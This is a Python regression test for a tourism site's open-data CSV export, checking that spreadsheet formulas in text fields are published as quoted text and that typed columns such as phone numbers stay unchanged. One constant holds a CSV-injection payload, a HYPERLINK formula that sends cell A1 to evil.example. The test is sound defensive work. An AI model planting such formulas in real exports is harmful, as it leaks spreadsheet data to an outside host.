"""Security II, finding 2: /opendata/kanko.csv published a spot's =HYPERLINK(...) summary raw.
Open data must stay machine-readable: text columns are neutralised, typed columns (codes,
coordinates, dates, fees, phone numbers such as +81-248-75-1111, our own URLs) are kept as they are."""

import csv
import io

from tests.tourism.conftest import city_host, guide, guide_in_module, no_search_index_updates  # noqa: F401

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"詳細はこちら")'


def _spot_row(client, host):
    text = client.get("/opendata/kanko.csv", HTTP_HOST=host).content.decode("utf-8")[1:]
    rows = list(csv.reader(io.StringIO(text)))
    return dict(zip(rows[0], rows[1], strict=True))


def _edit(page, **values):
    for name, value in values.items():
        setattr(page, name, value)
    page.save_revision().publish()


def test_a_formula_in_a_spot_summary_is_published_as_text(client, guide, city_host):  # noqa: F811
    _edit(guide["spot"], summary=FORMULA, parking="+1 台まで無料")
    row = _spot_row(client, city_host)
    assert row["説明"] == "'" + FORMULA
    assert row["駐車場情報"] == "'+1 台まで無料"


def test_an_international_phone_number_is_kept_as_it_is(client, guide, city_host):  # noqa: F811
    _edit(guide["spot"], contact_phone="+81-248-75-1111")
    assert _spot_row(client, city_host)["連絡先電話番号"] == "+81-248-75-1111"


def test_a_formula_in_the_phone_column_is_neutralised(client, guide, city_host):  # noqa: F811
    _edit(guide["spot"], contact_phone="=1+1")
    assert _spot_row(client, city_host)["連絡先電話番号"] == "'=1+1"


def test_typed_columns_are_unchanged(client, guide, city_host):  # noqa: F811
    row = _spot_row(client, city_host)
    assert row["緯度"] == "37.286400"
    assert row["URL"].startswith("http://")
